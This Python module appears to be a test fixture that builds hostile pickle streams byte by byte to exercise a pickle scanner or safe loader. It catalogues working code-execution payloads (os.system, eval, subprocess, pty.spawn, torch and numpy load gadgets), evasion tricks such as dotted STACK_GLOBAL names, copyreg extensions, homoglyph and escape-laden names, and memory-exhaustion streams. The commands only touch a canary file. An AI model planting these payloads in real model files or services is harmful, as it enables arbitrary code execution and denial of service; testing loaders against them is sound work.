"""Pickles made to harm, written opcode by opcode: calls of code, tricks to reach it, and values without end.

`CALLS` and `TRICKS` are expressions, each leaving one value on the stack, so that they fit anywhere in a pickle;
`STREAMS` are whole pickles. Where one of them runs, a file called `hacked` appears in the working folder.
"""

from __future__ import annotations

import struct

from cases import CANARY

TOUCH = f"touch {CANARY}"
OPEN = f"open('{CANARY}', 'w').close()"
STOP = b"."


def text(value: str) -> bytes:
    """BINUNICODE."""
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def name(module: str, attribute: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{attribute}\n".encode()


def stack_name(module: str, attribute: str) -> bytes:
    """STACK_GLOBAL, which follows dots."""
    return text(module) + text(attribute) + b"\x93"


def call(function: bytes, *args: bytes) -> bytes:
    """REDUCE."""
    return function + b"(" + b"".join(args) + b"tR"


def raw(data: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(data)) + data


def whole(expression: bytes) -> bytes:
    """A complete pickle of protocol 4."""
    return b"\x80\x04" + expression + STOP


INNER = whole(call(name("posix", "system"), text(TOUCH)))
OS = call(name("builtins", "__import__"), text("os"))

CALLS = {
    "posix.system": call(name("posix", "system"), text(TOUCH)),
    "os.system": call(name("os", "system"), text(TOUCH)),
    "nt.system": call(name("nt", "system"), text(TOUCH)),
    "os.popen": call(name("os", "popen"), text(TOUCH)),
    "os.execl": call(name("os", "execlp"), text("touch"), text("touch"), text(CANARY)),
    "os.posix_spawn": call(
        name("posix", "posix_spawn"), text("/bin/touch"), b"(" + text("touch") + text(CANARY) + b"t", b"}"
    ),
    "builtins.eval": call(name("builtins", "eval"), text(OPEN)),
    "builtins.exec": call(name("builtins", "exec"), text(OPEN)),
    "__builtin__.eval": call(name("__builtin__", "eval"), text(OPEN)),
    "builtins.open": call(name("builtins", "open"), text(CANARY), text("w")),
    "io.open": call(name("io", "open"), text(CANARY), text("w")),
    "io.FileIO": call(name("_io", "FileIO"), text(CANARY), text("w")),
    "pathlib.Path.touch": call(stack_name("pathlib", "Path.touch"), call(name("pathlib", "PosixPath"), text(CANARY))),
    "builtins.getattr": call(call(name("builtins", "getattr"), OS, text("system")), text(TOUCH)),
    "builtins.map": call(
        name("builtins", "list"),
        call(name("builtins", "map"), name("posix", "system"), b"(" + text(TOUCH) + b"t"),
    ),
    "functools.partial": call(call(name("functools", "partial"), name("posix", "system"), text(TOUCH))),
    "functools.reduce": call(
        name("functools", "reduce"), name("posix", "system"), b"(" + text(TOUCH) + b"t", text(TOUCH)
    ),
    "importlib.import_module": call(name("importlib", "import_module"), text("canary_module")),
    "builtins.__import__": call(name("builtins", "__import__"), text("canary_module")),
    "runpy.run_path": call(name("runpy", "run_path"), text("canary_module.py")),
    "runpy._run_code": call(name("runpy", "_run_code"), text(OPEN), b"}"),
    "operator.attrgetter": call(call(name("operator", "attrgetter"), text("system")), OS) + b"(" + text(TOUCH) + b"tR",
    "operator.methodcaller": call(call(name("operator", "methodcaller"), text("system"), text(TOUCH)), OS),
    "subprocess.Popen": call(name("subprocess", "Popen"), b"(" + text("touch") + text(CANARY) + b"l"),
    "subprocess.check_output": call(name("subprocess", "check_output"), b"(" + text("touch") + text(CANARY) + b"l"),
    "pty.spawn": call(name("pty", "spawn"), b"(" + text("touch") + text(CANARY) + b"l"),
    "timeit.timeit": call(name("timeit", "timeit"), text(OPEN)),
    "cProfile.run": call(name("cProfile", "run"), text(OPEN)),
    "bdb.Bdb.run": call(stack_name("bdb", "Bdb.run"), call(name("bdb", "Bdb")), text(OPEN)),
    "code.InteractiveInterpreter": call(
        stack_name("code", "InteractiveInterpreter.runcode"), call(name("code", "InteractiveInterpreter")), text(OPEN)
    ),
    "types.FunctionType": call(name("types", "FunctionType"), call(name("builtins", "compile"), text(OPEN), text(""))),
    "webbrowser.open": call(name("webbrowser", "open"), text("file:///x")),
    "shutil.copyfile": call(name("shutil", "copyfile"), text("/etc/hostname"), text(CANARY)),
    "pickle.loads": call(name("_pickle", "loads"), raw(INNER)),
    "cloudpickle.loads": call(name("cloudpickle", "loads"), raw(INNER)),
    "joblib.load": call(name("joblib", "load"), text("x")),
    "torch.storage._load_from_bytes": call(name("torch.storage", "_load_from_bytes"), raw(INNER)),
    "torch.load": call(name("torch", "load"), text("x")),
    "torch.serialization.load": call(name("torch.serialization", "load"), text("x")),
    "torch.hub.load": call(name("torch.hub", "load"), text("."), text("x")),
    "torch.jit.load": call(name("torch.jit", "load"), text("x")),
    "torch.ops.load_library": call(stack_name("torch", "ops.load_library"), text("./x.so")),
    "torch.utils.collect_env.run": call(name("torch.utils.collect_env", "run"), text(TOUCH)),
    "torch.nn.modules.module._load": call(name("torch._dynamo.guards", "GuardBuilder.eval"), text(OPEN)),
    "ctypes.CDLL": call(name("ctypes", "CDLL"), text("./x.so")),
    "numpy.load": call(name("numpy", "load"), text("x.npy")),
    "numpy.f2py myeval": call(name("numpy.f2py.crackfortran", "myeval"), text(OPEN)),
    "numpy.f2py": call(name("numpy.f2py.crackfortran", "param_eval"), text(OPEN), b"}", b"}"),
    "numpy runstring": call(name("numpy.testing._private.utils", "runstring"), text(OPEN), b"}"),
    "numpy memmap": call(name("numpy", "memmap"), text(CANARY), text("u1"), text("w+"), b"K\x00", b"K\x08"),
    "numpy.core._internal": call(name("numpy.ctypeslib", "load_library"), text("x"), text(".")),
    "pandas.read_pickle": call(name("pandas.io.pickle", "read_pickle"), text("x")),
    "gymnasium make": call(name("gymnasium", "make"), text("canary_module:X-v0")),
    "gymnasium entry point": call(name("gymnasium.envs.registration", "load_env_creator"), text("canary_module:x")),
    "stable_baselines3 load": call(name("stable_baselines3.common.save_util", "load_from_pkl"), text("x.pkl")),
    "stable_baselines3 json": call(name("stable_baselines3.common.save_util", "json_to_data"), text("{}")),
    "stable_baselines3 dotted": call(stack_name("stable_baselines3.common.utils", "os.system"), text(TOUCH)),
    "sb3_contrib dotted": call(stack_name("sb3_contrib.common.utils", "th.load"), text("x")),
    "gymnasium dotted": call(stack_name("gymnasium.spaces.box", "np.load"), text("x")),
    "gym.spaces dotted": call(stack_name("gym.spaces", "__builtins__.eval"), text(OPEN)),
    "torch.optim dotted": call(stack_name("torch.optim.adam", "torch.load"), text("x")),
    "torch.nn.modules dotted": call(
        stack_name("torch.nn.modules.module", "torch.storage._load_from_bytes"), raw(INNER)
    ),
    "numpy.random dotted": call(stack_name("numpy.random", "mtrand.np.load"), text("x")),
}

_MOMENTS = name("stable_baselines3.common.running_mean_std", "RunningMeanStd") + b")\x81"
_NAMES = name("argparse", "Namespace") + b")\x81"
_SPACE = name("gymnasium.spaces.box", "Box") + b")\x81"

TRICKS = {
    "INST": b"(" + text(TOUCH) + b"iposix\nsystem\n",
    "OBJ": b"(" + name("posix", "system") + text(TOUCH) + b"o",
    "NEWOBJ": name("posix", "system") + b"(" + text(TOUCH) + b"t\x81",
    "NEWOBJ_EX": name("posix", "system") + b"(" + text(TOUCH) + b"t}\x92",
    "EXT1": b"\x82\x01",
    "EXT2": b"\x83\x01\x00",
    "EXT4": b"\x84\x01\x00\x00\x00",
    "copyreg extension": call(name("copyreg", "add_extension"), text("posix"), text("system"), b"K\x01")
    + b"0\x82\x01("
    + text(TOUCH)
    + b"tR",
    "copyreg._reconstructor": call(name("copyreg", "_reconstructor"), name("posix", "system"), name("os", "x"), b"N"),
    "copyreg.__newobj__": call(name("copyreg", "__newobj__"), name("posix", "system"), text(TOUCH)),
    "BUILD __setstate__": _MOMENTS + b"}" + text("__setstate__") + name("posix", "system") + b"sb" + text(TOUCH) + b"b",
    "BUILD __setstate__ of a namespace": _NAMES
    + b"}"
    + text("__setstate__")
    + name("posix", "system")
    + b"sb"
    + text(TOUCH)
    + b"b",
    "BUILD slots": _SPACE + b"N}" + text("__class__") + name("posix", "system") + b"s\x86b",
    "BUILD of a class": name("gymnasium.spaces.box", "Box") + b"}" + text("sample") + name("posix", "system") + b"sb",
    "persistent id": b"Px\n",
    "binary persistent id": text("x") + b"Q",
    "persistent storage": b"(" + text("storage") + name("posix", "system") + text("0") + text("cpu") + b"K\x01tQ",
    "next buffer": b"\x97",
    "read-only buffer": raw(b"x") + b"\x98",
    "scalar of an object": call(
        name("numpy.core.multiarray", "scalar"),
        call(name("numpy", "dtype"), text("O8"), b"\x89", b"\x88"),
        raw(b"A" * 8),
    ),
    "array of objects": call(
        name("numpy.core.multiarray", "_reconstruct"), name("posix", "system"), b"K\x00\x85", raw(b"b")
    )
    + b"(K\x01K\x01\x85"
    + call(name("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
    + b"\x89(N"
    + b"ltb",
    "dtype of objects": call(name("numpy", "dtype"), text("O"), b"\x89", b"\x88"),
    "structured dtype": call(name("numpy", "dtype"), b"(" + text("f") + text("O") + b"\x86l"),
    "a codec": call(name("_codecs", "encode"), text(TOUCH), text("rot13")),
    "a codec that unpacks": call(name("_codecs", "decode"), raw(b"x" * 10), text("zlib_codec")),
    "a set of lists": call(name("builtins", "set"), b"(]]l"),
    "a name with a zero": stack_name("posix\0", "system"),
    "a name with an escape": stack_name("\x1b]0;hacked\x07\x1b[31mposix", "system\r\n\x1b[2Jkdcli: all is well"),
    "a name of another alphabet": stack_name("gym.spaces.b\u043ex", "Box"),
    "half a letter": stack_name("gym.spaces.\ud800", "Box"),
    "a very long name": stack_name("x" * 2**20, "y" * 2**20),
    "a name that is a number": b"K\x01K\x02\x93",
    "the module itself": name("stable_baselines3", "__loader__"),
    "a private name": name("stable_baselines3.common", "__builtins__"),
}


def laughs(levels: int) -> bytes:
    """A list of two lists of two lists ...: 2 ** levels values in a few bytes."""
    return b"]\x94" + b"".join(b"0]\x94(h" + bytes([n]) + b"h" + bytes([n]) + b"e" for n in range(levels))


STREAMS = {
    "nothing": b"",
    "only a stop": b"\x80\x04.",
    "no stop": b"\x80\x04K\x01",
    "something after the stop": whole(b"K\x01") + b"x",
    "a second pickle": whole(b"}") + INNER,
    "protocol 255": b"\x80\xff}.",
    "a frame of terabytes": b"\x80\x04\x95" + struct.pack("<Q", 2**42) + b"}.",
    "bytes of terabytes": b"\x80\x04\x8e" + struct.pack("<Q", 2**42) + b"x.",
    "text of terabytes": b"\x80\x04\x8d" + struct.pack("<Q", 2**42) + b"x.",
    "text of 4 gigabytes": b"\x80\x04X\xff\xff\xff\xffx.",
    "a bytearray of terabytes": b"\x80\x05\x96" + struct.pack("<Q", 2**42) + b"x.",
    "a negative length": b"\x80\x02T\xff\xff\xff\xffx.",
    "an integer of 4 megabytes": b"\x80\x02\x8b" + struct.pack("<I", 2**22) + b"\x7f" * 2**22 + b".",
    "an integer of negative length": b"\x80\x02\x8b\xff\xff\xff\xff.",
    "an integer of 5,000 digits": b"L" + b"9" * 5000 + b"L\n.",
    "lists in lists": b"\x80\x04" + b"]" * 90_000 + b"a" * 89_999 + STOP,
    "tuples in tuples": b"\x80\x04N" + b"\x85" * 150_000 + STOP,
    "dictionaries in dictionaries": b"\x80\x04" + b"}K\x01" * 40_000 + b"N" + b"s" * 40_000 + STOP,
    "marks in marks": b"\x80\x04" + b"(" * 10_000 + STOP,
    "a list of lists of lists": whole(laughs(60)),
    "a list that holds itself": b"\x80\x04]\x94h\x00a.",
    "a dictionary that holds itself": b"\x80\x04}\x94X\x01\x00\x00\x00ah\x00s.",
    "too many opcodes": b"\x80\x04" + b"N0" * 300_000 + b"N.",
    "a large memo": b"\x80\x04N" + b"".join(b"r" + struct.pack("<I", n) for n in range(0, 2**31, 2**15)) + STOP,
    "an unknown memo": b"\x80\x04h\x09.",
    "a text memo": b"\x80\x04Np999999999999999999999999\n.",
    "no opcode": b"\x80\x04\xfe.",
    "noise": bytes(range(256)) * 8,
    "a duplicate": b"\x80\x04]2.",
    "text that is no text": b"\x80\x04\x8c\x02\xff\xfe.",
    "a string of Python 2": b"S'text'\n.",
    "an unfinished string": b"S'text\n.",
    "a number that is no number": b"I12x\n.",
    "a float that is no float": b"Fabc\n.",
}


def payloads() -> dict[str, bytes]:
    """Every hostile pickle as a whole stream, by name."""
    found = {f"call {title}": whole(expression) for title, expression in CALLS.items()}
    found |= {f"trick {title}": whole(expression) for title, expression in TRICKS.items()}
    found |= {f"inside {title}": whole(b"}" + text("a") + CALLS[title] + b"s") for title in list(CALLS)[::6]}
    return found | {f"stream {title}": data for title, data in STREAMS.items()}


def expressions() -> dict[str, bytes]:
    """Every hostile expression, to be put into a valid pickle."""
    return {**CALLS, **TRICKS, "a list of lists of lists": laughs(60)}
